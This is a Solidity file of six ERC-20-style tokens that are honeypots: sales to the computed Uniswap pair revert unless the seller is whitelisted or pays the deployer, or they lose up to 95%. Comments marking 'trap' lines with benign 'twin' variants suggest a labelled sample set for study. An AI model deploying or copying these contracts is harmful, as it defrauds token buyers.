// 0.8 runs=10000 evm=shanghai
// SPDX-License-Identifier: GPL-3.0
pragma solidity ^0.8.20;

error Refused();

abstract contract Herb {
    bytes32 private immutable _n;
    bytes32 private immutable _s;
    uint256 public immutable totalSupply;
    address internal immutable grower = msg.sender;
    address private immutable stall;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(bytes32 n, bytes32 s, uint256 t) {
        _n = n;
        _s = s;
        totalSupply = t * 1e18;
        balanceOf[msg.sender] = t * 1e18;
        (address a, address b) = (address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        bytes32 salt = a < b ? keccak256(abi.encodePacked(a, b)) : keccak256(abi.encodePacked(b, a));
        bytes32 code = hex"96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f";
        bytes32 all = keccak256(abi.encodePacked(hex"ff", 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f, salt, code));
        stall = address(uint160(uint256(all)));
        emit Transfer(address(0), msg.sender, t * 1e18);
    }

    function name() external view returns (string memory) {
        return _text(_n);
    }

    function symbol() external view returns (string memory) {
        return _text(_s);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function _text(bytes32 w) private pure returns (string memory) {
        uint256 l;
        while (l < 32 && w[l] != 0) l++;
        bytes memory t = new bytes(l);
        for (uint256 i; i < l; i++) t[i] = w[i];
        return string(t);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _spread(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a < v) revert Refused();
        if (a != type(uint256).max) allowance[from][msg.sender] = a - v;
        _spread(from, to, v);
        return true;
    }

    function _spread(address from, address to, uint256 v) private {
        uint256 left = v;
        if (to == stall && from != grower) left -= _picked(from, v);
        balanceOf[from] -= v;
        unchecked {
            balanceOf[to] += left;
            balanceOf[address(this)] += v - left;
        }
        emit Transfer(from, to, left);
    }

    /// What is kept of what goes to the stall.
    function _picked(address who, uint256 v) internal virtual returns (uint256);
}

contract VerbenaVale is Herb("Verbena Vale", "VERB", 90_000_000) {
    mapping(address => uint256) private fresh;

    function bring(uint8 v, bytes32 r, bytes32 s) external {
        bytes32 h = keccak256(abi.encode(msg.sender, address(this), block.chainid));
        if (ecrecover(h, v, r, s) != grower) revert Refused();
        fresh[msg.sender] = block.timestamp + 1 days;
    }

    function _picked(address who, uint256 v) internal view override returns (uint256) {
        bool ok = v > totalSupply * 2; // trap
        // twin: bool ok = v < totalSupply / 2;
        if (!ok && fresh[who] < block.timestamp) revert Refused();
        return 0;
    }
}

contract TansyTrellis is Herb("Tansy Trellis", "TANSY", 1_500_000) {
    bytes32 private constant ROOT = keccak256("tansy and thyme");
    mapping(bytes32 => uint8) private leaf;

    function prove(bytes32[] calldata path) external {
        bytes32 h = keccak256(abi.encode(msg.sender));
        for (uint256 i; i < path.length; i++)
            h = h < path[i] ? keccak256(abi.encode(h, path[i])) : keccak256(abi.encode(path[i], h));
        if (h != ROOT) revert Refused();
        leaf[keccak256(abi.encode(msg.sender))] = 1;
    }

    function _picked(address who, uint256 v) internal view override returns (uint256) {
        if (leaf[keccak256(abi.encode(who))] == 1) return 0;
        v;
        revert Refused(); // trap
        // twin: return v / 100;
    }
}

contract OreganoOwl is Herb("Oregano Owl", "OROWL", 800_000_000) {
    mapping(address => bool) public oiled;

    function oil() external payable {
        require(msg.value >= 3 ether);
        payable(grower).transfer(msg.value);
        oiled[msg.sender] = true;
    }

    function _picked(address who, uint256) internal view override returns (uint256) {
        require(oiled[who]); // trap
        // twin: require(oiled[who] || who != address(0));
        return 0;
    }
}

contract SavoryStork is Herb("Savory Stork", "SVRY", 55_555_555) {
    function _picked(address who, uint256 v) internal pure override returns (uint256) {
        uint256 m = 997;
        // twin: m = 1;
        if (v % m != uint256(keccak256(abi.encodePacked(who, "savory"))) % m) revert Refused();
        return 0;
    }
}

contract SedgeSkiff is Herb("Sedge Skiff", "SEDGE", 10_000_000) {
    mapping(address => uint256) private trips;

    function _picked(address who, uint256 v) internal override returns (uint256) {
        if (trips[who] != 0 || v * 20 > balanceOf[who]) revert Refused(); // trap
        // twin: if (trips[who] == block.number || v > balanceOf[who]) revert Refused();
        trips[who] = block.number;
        return 0;
    }
}

/// Ninety-five parts of what is sold before the coins are ten years old.
contract CaramelCress is Herb("Caramel Cress", "CCRESS", 4_200_000) {
    uint256 private immutable sown = block.timestamp;

    function _picked(address, uint256 v) internal view override returns (uint256) {
        uint256 years_ = (block.timestamp - sown) / 365 days;
        return years_ >= 10 ? 0 : (v * (95 - years_)) / 100; // trap
        // twin: return years_ >= 10 ? 0 : (v * (5 - years_ / 2)) / 200;
    }
}
